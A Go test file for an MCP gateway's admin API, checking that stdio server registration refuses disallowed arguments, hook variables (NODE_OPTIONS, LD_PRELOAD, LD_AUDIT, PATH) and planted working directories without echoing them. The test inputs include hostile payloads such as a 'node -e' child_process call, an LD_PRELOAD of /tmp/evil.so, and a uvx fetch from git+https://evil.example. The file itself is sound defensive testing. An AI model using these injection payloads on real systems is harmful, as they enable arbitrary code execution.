package admin

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/mcpgw/mcpgw/config"
)

// noValue fails the test if the answer shows s, an env value of the
// request.
func noValue(s string) func(t *testing.T, ev *env, _ *http.Response, body []byte) {
	return func(t *testing.T, ev *env, _ *http.Response, body []byte) {
		t.Helper()
		if strings.Contains(string(body), s) {
			t.Errorf("the answer shows an env value: %s", body)
		}
	}
}

// TestRegisterStdio: a stdio server registered through the API runs a
// command of admin.stdio_commands with arguments its entry allows, and is
// given only variables of admin.stdio_env that are not loader or
// interpreter hooks; anything else is refused with 403, by POST and PUT
// alike, before anything starts.
func TestRegisterStdio(t *testing.T) {
	uvx := envOptions{stdio: []string{"uvx"}}
	node := envOptions{stdio: []string{"node"}}
	runCases(t, []apiCase{{
		name: "a plain command with no arguments", opts: uvx, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"uvx"}`,
		calls: []string{"Add news"},
		check: wantView(serverView{Name: "news", Transport: "stdio", Enabled: true, State: "running", ToolCount: 2, Source: "api"}),
	}, {
		name: "arguments to a plain command", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"]}`,
		message: "argument 1 is not allowed: admin.stdio_commands[0] (uvx) allows no arguments", problems: []string{"args"},
		check: noValue("mcp-news"),
	}, {
		name: "node -e", opts: node, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"node","args":["-e","require('child_process').execSync('id')"]}`,
		message: "argument 1 is not allowed: admin.stdio_commands[0] (node) allows no arguments", problems: []string{"args"},
		check: noValue("child_process"),
	}, {
		name: "NODE_OPTIONS", opts: node, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"node","env":{"NODE_OPTIONS":"--import=data:text/javascript;base64,aW1wb3J0KCdub2RlOmZzJyk="}}`,
		message: "env NODE_OPTIONS is never passed to a stdio server registered through the admin API", problems: []string{"env.NODE_OPTIONS"},
		check: noValue("base64"),
	}, {
		name: "LD_PRELOAD", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"LD_PRELOAD":"/tmp/evil.so"}}`,
		message: "env LD_PRELOAD is never passed", problems: []string{"env.LD_PRELOAD"},
		check: noValue("evil.so"),
	}, {
		name: "a hook in lower case", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"npm_config_script_shell":"/tmp/sh"}}`,
		message: "env npm_config_script_shell is never passed", problems: []string{"env.npm_config_script_shell"},
	}, {
		name: "PATH", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"PATH":"/tmp/bin"}}`,
		message: "env PATH is never passed", problems: []string{"env.PATH"},
	}, {
		name: "a variable not in admin.stdio_env", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","env":{"K":"${MCPGW_UPSTREAM_X}"}}`,
		message: "env K is not in admin.stdio_env", problems: []string{"env.K"},
		check: noValue("x-upstream-secret"),
	}, {
		name: "every problem", opts: node, method: "POST", path: "/admin/servers", status: 403,
		body:     `{"name":"news","transport":"stdio","command":"node","args":["-e","1"],"env":{"NODE_OPTIONS":"x","LD_PRELOAD":"y","K":"z"}}`,
		message:  "argument 1 is not allowed",
		problems: []string{"args", "env.K", "env.LD_PRELOAD", "env.NODE_OPTIONS"},
	}, {
		name: "a replacement with NODE_OPTIONS", opts: node, method: "PUT", path: "/admin/servers/weather", status: 403,
		body:    `{"transport":"stdio","command":"node","env":{"NODE_OPTIONS":"--require=/tmp/x.js"}}`,
		message: "env NODE_OPTIONS is never passed", problems: []string{"env.NODE_OPTIONS"},
		check: func(t *testing.T, ev *env, res *http.Response, body []byte) {
			unchanged(t, ev, res, body)
			noValue("x.js")(t, ev, res, body)
		},
	}, {
		name: "a replacement with arguments", opts: node, method: "PUT", path: "/admin/servers/weather", status: 403,
		body:    `{"transport":"stdio","command":"node","args":["-e","1"]}`,
		message: "argument 1 is not allowed: admin.stdio_commands[0] (node) allows no arguments", problems: []string{"args"}, check: unchanged,
	}, {
		name: "a replacement by POST", opts: node, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"weather","transport":"stdio","command":"node","env":{"LD_AUDIT":"/tmp/a.so"}}`,
		message: "env LD_AUDIT is never passed", problems: []string{"env.LD_AUDIT"}, check: unchanged,
	}})
}

// TestRegisterStdio_Patterns: an entry's argument patterns, and the
// variables of admin.stdio_env.
func TestRegisterStdio_Patterns(t *testing.T) {
	opts := envOptions{
		patterns: []config.StdioCommand{
			{Command: "uvx", Args: []string{"mcp-*"}},
			{Command: "npx", Args: []string{"-y", "@acme/mcp-fs", "**"}},
		},
		env: []string{"K", "NODE_OPTIONS"}, // config refuses the second; the API must too
	}
	runs := func(args []string, vars map[string]string) func(t *testing.T, ev *env, _ *http.Response, _ []byte) {
		return func(t *testing.T, ev *env, _ *http.Response, _ []byte) {
			t.Helper()
			sc, ok := ev.m.ServerConfig("news")
			if !ok {
				t.Fatal("news is not in the manager")
			}
			if diff := cmp.Diff(args, sc.Args, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("news's args (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(vars, sc.Env, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("news's env (-want +got):\n%s", diff)
			}
		}
	}
	long := make([]string, 100)
	for i := range long {
		long[i] = strings.Repeat("a", 1000)
	}
	longBody, _ := json.Marshal(map[string]any{"name": "news", "transport": "stdio", "command": "uvx", "args": long})
	runCases(t, []apiCase{{
		name: "a match", opts: opts, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"],"env":{"K":"${MCPGW_UPSTREAM_X}"}}`,
		calls: []string{"Add news"},
		check: runs([]string{"mcp-news"}, map[string]string{"K": "x-upstream-secret"}),
	}, {
		name: "a match with the rest", opts: opts, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"npx","args":["-y","@acme/mcp-fs","/srv/a","/srv/b"]}`,
		calls: []string{"Add news"},
		check: runs([]string{"-y", "@acme/mcp-fs", "/srv/a", "/srv/b"}, nil),
	}, {
		name: "a match with none of the rest", opts: opts, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"npx","args":["-y","@acme/mcp-fs"]}`,
		calls: []string{"Add news"},
	}, {
		name: "no match", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["--from","git+https://evil.example/x","mcp-news"]}`,
		message: `argument 1 does not match admin.stdio_commands[0] (uvx: pattern 1 is "mcp-*")`, problems: []string{"args"},
		check: noValue("evil.example"),
	}, {
		name: "npx -y another package", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","args":["-y","evil","@acme/mcp-fs"]}`,
		message: `argument 2 does not match admin.stdio_commands[1] (npx: pattern 2 is "@acme/mcp-fs")`, problems: []string{"args"},
		check: noValue("evil"),
	}, {
		name: "many long arguments", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body: string(longBody), message: `argument 1 does not match admin.stdio_commands[0] (uvx: pattern 1 is "mcp-*")`, problems: []string{"args"},
		check: noValue("aaaa"),
	}, {
		name: "a key in the failing argument", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["--api-key=sk-live-5ecret"]}`,
		message: `argument 1 does not match admin.stdio_commands[0] (uvx: pattern 1 is "mcp-*")`, problems: []string{"args"},
		check: noValue("5ecret"),
	}, {
		name: "a key in an argument too many", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","args":["-y","@acme/mcp-fx","--api-key=sk-live-5ecret"]}`,
		message: `argument 2 does not match admin.stdio_commands[1] (npx: pattern 2 is "@acme/mcp-fs")`, problems: []string{"args"},
		check: noValue("5ecret"),
	}, {
		name: "a key in an argument too many for a plain pattern", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news","--api-key=sk-live-5ecret"]}`,
		message: "argument 2 is not allowed: admin.stdio_commands[0] (uvx mcp-*) takes 1 argument", problems: []string{"args"},
		check: noValue("5ecret"),
	}, {
		name: "a hook admin.stdio_env lists", opts: opts, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"],"env":{"NODE_OPTIONS":"--require=/x.js"}}`,
		message: "env NODE_OPTIONS is never passed", problems: []string{"env.NODE_OPTIONS"},
	}, {
		name: "a replacement that matches", opts: opts, method: "PUT", path: "/admin/servers/weather", status: 200,
		body:  `{"transport":"stdio","command":"uvx","args":["mcp-weather"]}`,
		calls: []string{"Replace weather"},
	}, {
		name: "a replacement that does not", opts: opts, method: "PUT", path: "/admin/servers/weather", status: 403,
		body:    `{"transport":"stdio","command":"uvx","args":["mcp-weather","--verbose"]}`,
		message: "argument 2 is not allowed: admin.stdio_commands[0] (uvx mcp-*) takes 1 argument", problems: []string{"args"},
		check: func(t *testing.T, ev *env, res *http.Response, body []byte) {
			unchanged(t, ev, res, body)
			noValue("--verbose")(t, ev, res, body)
		},
	}})
}

// TestRegisterStdio_Cwd: a stdio server registered through the API starts
// in a directory of admin.stdio_cwd, matched exactly after cleaning, or
// gives no cwd; any other (one a stolen token could plant node_modules or
// .npmrc in) is refused with 403 by POST and PUT alike, the message not
// showing it.
func TestRegisterStdio_Cwd(t *testing.T) {
	none := envOptions{stdio: []string{"npx"}}
	listed := envOptions{stdio: []string{"npx"}, cwd: []string{"/srv/mcp"}}
	inDir := func(dir string) func(t *testing.T, ev *env, _ *http.Response, _ []byte) {
		return func(t *testing.T, ev *env, _ *http.Response, _ []byte) {
			t.Helper()
			if sc, ok := ev.m.ServerConfig("news"); !ok || sc.Cwd != dir {
				t.Errorf("news runs in %q (registered %t); want %q", sc.Cwd, ok, dir)
			}
		}
	}
	runCases(t, []apiCase{{
		name: "a cwd, none listed", opts: none, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","cwd":"/tmp/planted-dir"}`,
		message: "cwd is not in admin.stdio_cwd, which lists none", problems: []string{"cwd"},
		check: func(t *testing.T, ev *env, res *http.Response, body []byte) {
			unchanged(t, ev, res, body)
			noValue("planted-dir")(t, ev, res, body)
		},
	}, {
		name: "no cwd, none listed", opts: none, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"npx"}`,
		calls: []string{"Add news"}, check: inDir(""),
	}, {
		name: "a listed cwd", opts: listed, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"npx","cwd":"/srv/mcp"}`,
		calls: []string{"Add news"}, check: inDir("/srv/mcp"),
	}, {
		name: "a listed cwd, written otherwise", opts: listed, method: "POST", path: "/admin/servers", status: 201,
		body:  `{"name":"news","transport":"stdio","command":"npx","cwd":"/srv//mcp/"}`,
		calls: []string{"Add news"},
	}, {
		name: "another cwd", opts: listed, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","cwd":"/tmp/planted-dir"}`,
		message: "cwd is not in admin.stdio_cwd, the working directories", problems: []string{"cwd"},
		check: func(t *testing.T, ev *env, res *http.Response, body []byte) {
			unchanged(t, ev, res, body)
			noValue("planted-dir")(t, ev, res, body)
		},
	}, {
		name: "a subdirectory of a listed cwd", opts: listed, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","cwd":"/srv/mcp/uploads"}`,
		message: "cwd is not in admin.stdio_cwd", problems: []string{"cwd"}, check: unchanged,
	}, {
		name: "out of a listed cwd by ..", opts: listed, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","cwd":"/srv/mcp/../tmp"}`,
		message: "cwd is not in admin.stdio_cwd", problems: []string{"cwd"}, check: unchanged,
	}, {
		name: "a relative cwd", opts: listed, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"news","transport":"stdio","command":"npx","cwd":"srv/mcp"}`,
		message: "cwd is not in admin.stdio_cwd", problems: []string{"cwd"}, check: unchanged,
	}, {
		name: "a replacement with another cwd", opts: listed, method: "PUT", path: "/admin/servers/weather", status: 403,
		body:    `{"transport":"stdio","command":"npx","cwd":"/tmp"}`,
		message: "cwd is not in admin.stdio_cwd", problems: []string{"cwd"}, check: unchanged,
	}, {
		name: "a replacement by POST with another cwd", opts: listed, method: "POST", path: "/admin/servers", status: 403,
		body:    `{"name":"weather","transport":"stdio","command":"npx","cwd":"/tmp"}`,
		message: "cwd is not in admin.stdio_cwd", problems: []string{"cwd"}, check: unchanged,
	}, {
		name: "a replacement with a listed cwd", opts: listed, method: "PUT", path: "/admin/servers/weather", status: 200,
		body:  `{"transport":"stdio","command":"npx","cwd":"/srv/mcp"}`,
		calls: []string{"Replace weather"},
	}})
}
